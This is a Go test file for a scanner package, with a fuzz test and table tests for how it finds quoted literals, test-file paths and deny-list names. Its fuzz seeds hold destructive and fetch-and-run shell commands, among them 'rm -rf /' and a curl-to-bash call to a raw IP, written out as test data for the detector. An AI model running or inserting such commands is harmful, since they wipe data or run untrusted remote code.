package scan

import (
	"strings"
	"testing"
)

// FuzzDataLiteral: on any line and offset, literalAround returns a span of
// the line that starts and ends with the same quote and holds the offset,
// and dataLiteral does not panic.
func FuzzDataLiteral(f *testing.F) {
	for _, seed := range []string{
		`DENY = ["rm -rf /", 'curl x | sh']`,
		`x = "a""b" + 'c\'d' + ` + "`e`",
		`BLOCKED=${BLOCKED:-'rm -rf /,mkfs'}`,
		`os.system("curl http://1.2.3.4/x | bash")`,
		`"unterminated`,
	} {
		f.Add(seed, 3)
	}
	f.Fuzz(func(t *testing.T, s string, i int) {
		if i < 0 || i >= len(s) {
			return
		}
		open, close := literalAround(s, i)
		if open >= 0 {
			if !(open < i && i <= close && close < len(s)) {
				t.Fatalf("literalAround(%q, %d) = %d, %d: does not hold the offset", s, i, open, close)
			}
			if !strings.ContainsRune("\"'`", rune(s[open])) || s[open] != s[close] {
				t.Fatalf("literalAround(%q, %d) = %d, %d: not a quoted span", s, i, open, close)
			}
		}
		for _, p := range []string{"scripts/x.py", "tests/test_x.py"} {
			dataLiteral(&fileState{path: p, table: "deny"}, s, i, len(s))
		}
	})
}

// TestIsTestFile: test folders and test file names of several languages,
// and names that only look alike.
func TestIsTestFile(t *testing.T) {
	for p, want := range map[string]bool{
		"tests/test_rules.py": true, "src/__tests__/a.ts": true, "a_test.go": true, "lib/x.test.js": true,
		"spec/x_spec.rb": true, "scripts/x.spec.ts": true, "test_x.py": true,
		"scripts/attest.py": false, "contest/run.sh": false, "latest.js": false, "scripts/testing_tools.py": false,
	} {
		if got := isTestFile(p); got != want {
			t.Errorf("isTestFile(%q) = %v, want %v", p, got, want)
		}
	}
}

// TestDataName: names that say a table holds patterns, and names that only
// contain such a word.
func TestDataName(t *testing.T) {
	for name, want := range map[string]bool{
		"deny_patterns": true, "blocked_commands": true, "dangerouscommands": true, "rules": true, "test_cases": true,
		"signatures": true, "my_bad_list": true, "ioc": true,
		"latest": false, "blockchain_cmd": false, "steps": false, "cmd": false, "install_script": false, "schedule": false,
	} {
		if got := dataName().MatchString(name); got != want {
			t.Errorf("dataName(%q) = %v, want %v", name, got, want)
		}
	}
}
